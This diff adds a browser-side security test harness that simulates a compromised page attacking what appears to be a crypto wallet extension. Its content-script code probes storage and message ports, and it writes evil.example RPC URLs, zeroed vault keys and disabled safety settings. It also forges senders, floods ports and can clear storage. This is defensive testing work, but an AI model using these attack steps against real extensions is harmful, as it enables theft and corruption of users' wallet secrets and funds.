@@ -1,0 +1,141 @@
+// @ts-nocheck It runs in the browser, against an API that is not meant for it.
+/**
+ * A page that has taken over its renderer, and with it the content script: it runs in the extension's isolated world and
+ * tries every storage area, message, port and page of the extension. Appended to content.js by compromised.ts, where it
+ * starts when the page posts 'attack', and posts what it got.
+ */
+window.addEventListener('message', async ({ data }) => {
+  if (data?.attack === undefined) return
+  const { names, methods, account, connected, flood } = data.attack
+  const { browser, chrome } = globalThis
+  const api = browser ?? chrome
+  const PATIENCE = 1_500
+  const received = []
+  let attempts = 0
+  const note = (what, value) => received.push([what, value === undefined ? null : value])
+  const within = promise => Promise.race([promise, new Promise(resolve => setTimeout(resolve, PATIENCE))])
+
+  /** Tries one thing, and keeps what came of it. */
+  const attempt = async (what, act) => {
+    attempts++
+    try {
+      note(what, await within(Promise.resolve(act())))
+    } catch (error) {
+      note(what, `refused: ${error}`)
+    }
+  }
+
+  const evil = {
+    sites: [{ origin: location.origin, accounts: [account], since: 1 }],
+    'rpc-urls': { 1: 'https://evil.example', 31337: 'https://evil.example' },
+    safety: { asksPassword: false, allowsUnreadable: true },
+    'chain-id': 1,
+    'vault-key': '00'.repeat(32),
+    'settings-key': '00'.repeat(32),
+    'auto-lock': 1440,
+  }
+  const storage = async writes => {
+    for (const area of ['local', 'session', 'sync', 'managed']) {
+      await attempt(`${area} level`, () =>
+        api.storage[area].setAccessLevel({ accessLevel: 'TRUSTED_AND_UNTRUSTED_CONTEXTS' }),
+      )
+      await attempt(`${area} all`, () => api.storage[area].get(null))
+      await attempt(`${area} size`, () => api.storage[area].getBytesInUse(null))
+      for (const name of names) {
+        await attempt(`${area} get ${name}`, () => api.storage[area].get(name))
+        if (writes) await attempt(`${area} set ${name}`, () => api.storage[area].set({ [name]: evil[name] ?? [] }))
+      }
+    }
+  }
+  const destroy = async () => {
+    for (const area of ['local', 'session', 'sync', 'managed']) {
+      for (const name of names) await attempt(`${area} remove ${name}`, () => api.storage[area].remove(name))
+      await attempt(`${area} clear`, () => api.storage[area].clear())
+    }
+  }
+
+  /** Opens a port, posts messages on it, and keeps what comes. */
+  const port = (name, messages) =>
+    attempt(`port ${name}`, async () => {
+      const opened = api.runtime.connect({ name })
+      const answers = []
+      const closed = new Promise(resolve => opened.onDisconnect.addListener(resolve))
+      const all = new Promise(resolve =>
+        opened.onMessage.addListener(message => answers.push(message) === messages.length && resolve()),
+      )
+      for (const message of messages) opened.postMessage(message)
+      await within(Promise.race([closed, all]))
+      opened.disconnect()
+      return answers
+    })
+  const forged = { origin: connected, url: api.runtime.getURL('popup.html'), tab: null, frameId: 0 }
+  const sender = { ...forged, id: api.runtime.id }
+  const calls = methods.map(([method, params], id) => ({ id: String(id), method, params, ...forged, sender }))
+
+  const messages = async () => {
+    for (const name of [
+      'ui',
+      'relay-sockets',
+      'sockets',
+      'offscreen',
+      'tending',
+      'background',
+      '',
+      'UI',
+      'ui ',
+      'page',
+    ])
+      await port(name, name === 'page' ? calls : calls.map((call, id) => ({ ...call, id })))
+    for (const message of [
+      { order: 'open', name: 'evil', url: 'wss://evil.example' },
+      { order: 'send', name: 'evil', text: '{}' },
+      { news: 'received', name: 'wss://relay.example', text: '{}' },
+      { state: { phase: 'unlocked' } },
+      ...calls,
+    ])
+      await attempt(`message ${message.order ?? message.news ?? message.method}`, () =>
+        api.runtime.sendMessage(message),
+      )
+  }
+
+  const platform = async () => {
+    await attempt('databases', () => indexedDB.databases())
+    await attempt('caches', () => caches.keys())
+    await attempt('views', () => api.extension.getViews())
+    await attempt('background', () => api.runtime.getBackgroundPage())
+    for (const part of ['scripting', 'tabs', 'windows', 'alarms', 'offscreen', 'permissions', 'cookies'])
+      await attempt(part, () => Object.keys(api[part]))
+    for (const path of [
+      'popup.html',
+      'approval.html',
+      'settings.html',
+      'onboarding.html',
+      'background.js',
+      'manifest.json',
+    ])
+      await attempt(`fetch ${path}`, async () => (await fetch(api.runtime.getURL(path))).status)
+    await attempt('frame', async () => {
+      const frame = Object.assign(document.createElement('iframe'), { src: api.runtime.getURL('popup.html') })
+      document.body.append(frame)
+      await new Promise(resolve => setTimeout(resolve, PATIENCE / 2))
+      return frame.contentDocument?.body?.textContent ?? null
+    })
+  }
+
+  const floods = async () => {
+    for (let at = 0; at < flood; at++) {
+      attempts++
+      const opened = api.runtime.connect({ name: at % 2 === 0 ? 'ui' : 'page' })
+      opened.onMessage.addListener(message => note('flood', message))
+      for (const call of calls.slice(0, 3)) opened.postMessage({ ...call, id: `${at} ${call.id}` })
+      opened.disconnect()
+    }
+  }
+
+  await storage(data.attack.writes)
+  await messages()
+  await platform()
+  await floods()
+  if (data.attack.destroys) await destroy()
+  window.postMessage({ attacked: { attempts, received: JSON.stringify(received) } }, '*')
+})
